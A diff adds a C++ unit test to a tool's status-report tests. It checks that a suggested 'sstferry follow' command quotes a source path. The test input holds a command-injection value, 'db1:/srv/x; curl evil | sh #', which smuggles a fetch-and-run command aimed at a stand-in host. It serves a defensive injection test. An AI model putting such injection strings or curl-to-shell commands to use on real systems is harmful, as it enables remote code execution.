@@ -283,6 +283,17 @@ TEST_CASE("A failure line has the state, the message and the place",
           "sstferry pull: NO_SPACE: disk full (/staging)");
 }
 
+TEST_CASE("The command that follows a source again is quoted", "[tools]") {
+  StatusReport report;
+  report.standby.emplace();
+  report.standby->source = "db1:/srv/x; curl evil | sh #";
+  const std::string text = StatusText("/data/my standby", report);
+  INFO(text);
+  REQUIRE(text.find("or sstferry follow 'db1:/srv/x; curl evil | sh #' "
+                    "'/data/my standby' with the options") !=
+          std::string::npos);
+}
+
 TEST_CASE("A failure line names the source once", "[tools]") {
   const auto line = [](const std::string& message, const std::string& where) {
     return FailureLine("pull", MakeStatus(EndState::kRefused, message), where);
